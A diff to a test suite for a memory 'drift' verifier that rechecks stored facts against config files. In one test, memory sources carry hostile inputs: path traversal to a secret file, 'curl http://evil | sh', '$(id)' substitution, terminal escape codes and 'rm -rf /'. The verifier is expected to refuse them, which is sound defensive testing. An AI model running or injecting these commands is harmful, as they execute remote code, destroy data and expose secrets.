@@ -28,20 +28,20 @@ describe('drift job with the file verifier', () => {
     rules: [
       {
         name: 'db version',
-        match: { source: '^file:(?<path>[^#]+)#db$' },
+        match: { source: '^file:(?<path>[^#]+)#db$', fact: 'Postgres (?<version>\\d+)' },
         use: 'file',
-        with: { path: '${path}', select: '$.database.version', expect: '^15' },
+        with: { path: '${path}', select: '$.database.version', expect: '^${version}(\\.|$)' },
         replacement: 'the database is Postgres ${value}',
         autoSupersede: true,
       },
       {
         name: 'db version, ask first',
-        match: { source: '^ask:(?<path>.+)$' },
+        match: { source: '^ask:(?<path>.+)$', fact: 'Postgres (?<version>\\d+)' },
         use: 'file',
-        with: { path: '${path}', select: '$.database.version', expect: '^15' },
+        with: { path: '${path}', select: '$.database.version', expect: '^${version}(\\.|$)' },
         replacement: 'the database is Postgres ${value}',
       },
-      { name: 'env', match: { source: '^env:(?<path>.+)$' }, use: 'file', with: { path: '${path}', select: 'DEPLOY_BRANCH', expect: { equals: 'staging' } } },
+      { name: 'env', match: { source: '^env:(?<path>.+)$', fact: 'through staging$' }, use: 'file', with: { path: '${path}', select: 'DEPLOY_BRANCH', expect: { equals: 'staging' } } },
       { name: 'watch', match: { source: '^watch:(?<path>.+)$' }, use: 'file', with: { path: '${path}' } },
     ],
     ...extra,
@@ -54,7 +54,7 @@ describe('drift job with the file verifier', () => {
       { id: 'm_json', fact: 'the database is Postgres 15', source: 'file:app.json#db', confirmed_at: daysAgo(140) },
       { id: 'm_ask', fact: 'the database is Postgres 15', source: 'ask:app.json', confirmed_at: daysAgo(130) },
       { id: 'm_env', fact: 'deploys go through staging', source: 'env:.env', confirmed_at: daysAgo(120) },
-      { id: 'm_gone', fact: 'x', source: 'env:missing.env', confirmed_at: daysAgo(110) },
+      { id: 'm_gone', fact: 'deploys go through staging', source: 'env:missing.env', confirmed_at: daysAgo(110) },
       { id: 'm_chat', fact: 'prefers pnpm', source: 'chat 2026-05-01', confirmed_at: daysAgo(100) },
       { id: 'm_fresh', fact: 'fresh', source: 'file:app.yaml#db', confirmed_at: daysAgo(10) },
     ]);
@@ -131,13 +131,13 @@ describe('drift job with the file verifier', () => {
   it('refuses hostile sources with a recorded reason and reads nothing', async () => {
     symlinkSync(join(box.dir, 'secret.json'), join(root, 'link.json'));
     insertRows(box.dbPath, [
-      { id: 'h_dotdot', fact: 'f', source: 'ask:../secret.json', confirmed_at: daysAgo(200) },
-      { id: 'h_abs', fact: 'f', source: `ask:${join(box.dir, 'secret.json')}`, confirmed_at: daysAgo(199) },
-      { id: 'h_link', fact: 'f', source: 'ask:link.json', confirmed_at: daysAgo(198) },
-      { id: 'h_shell', fact: 'f', source: 'ask:app.json; curl http://evil | sh', confirmed_at: daysAgo(197) },
-      { id: 'h_subst', fact: 'f', source: 'ask:$(id).json', confirmed_at: daysAgo(196) },
-      { id: 'h_ctl', fact: 'f', source: 'ask:app.json\u0007\u001b[2J', confirmed_at: daysAgo(195) },
-      { id: 'h_nl', fact: 'f', source: 'ask:app.json\nrm -rf /', confirmed_at: daysAgo(194) },
+      { id: 'h_dotdot', fact: 'the database is Postgres 15', source: 'ask:../secret.json', confirmed_at: daysAgo(200) },
+      { id: 'h_abs', fact: 'the database is Postgres 15', source: `ask:${join(box.dir, 'secret.json')}`, confirmed_at: daysAgo(199) },
+      { id: 'h_link', fact: 'the database is Postgres 15', source: 'ask:link.json', confirmed_at: daysAgo(198) },
+      { id: 'h_shell', fact: 'the database is Postgres 15', source: 'ask:app.json; curl http://evil | sh', confirmed_at: daysAgo(197) },
+      { id: 'h_subst', fact: 'the database is Postgres 15', source: 'ask:$(id).json', confirmed_at: daysAgo(196) },
+      { id: 'h_ctl', fact: 'the database is Postgres 15', source: 'ask:app.json\u0007\u001b[2J', confirmed_at: daysAgo(195) },
+      { id: 'h_nl', fact: 'the database is Postgres 15', source: 'ask:app.json\nrm -rf /', confirmed_at: daysAgo(194) },
     ]);
     const r = await drift({ store: 'agent' }, jobContext(configFor(box, verify())));
     const byId = Object.fromEntries(r.verdicts.map((v) => [v.id, v]));
@@ -192,7 +192,7 @@ describe('file roots behind a symlink', () => {
     ]);
     const config = configFor(box, {
       allow: { fileRoots: [join(box.dir, 'configs')] },
-      rules: [{ match: { source: '^cfg:(?<p>.+)$' }, use: 'file', with: { path: '${p}', select: 'version', expect: '^15' } }],
+      rules: [{ match: { source: '^cfg:(?<p>.+)$', fact: '^Postgres 15$' }, use: 'file', with: { path: '${p}', select: 'version', expect: '^15' } }],
     });
     const r = await drift({ store: 'agent' }, jobContext(config));
     expect(r.verdicts.map((v) => v.verdict)).toEqual(['confirmed', 'confirmed']);
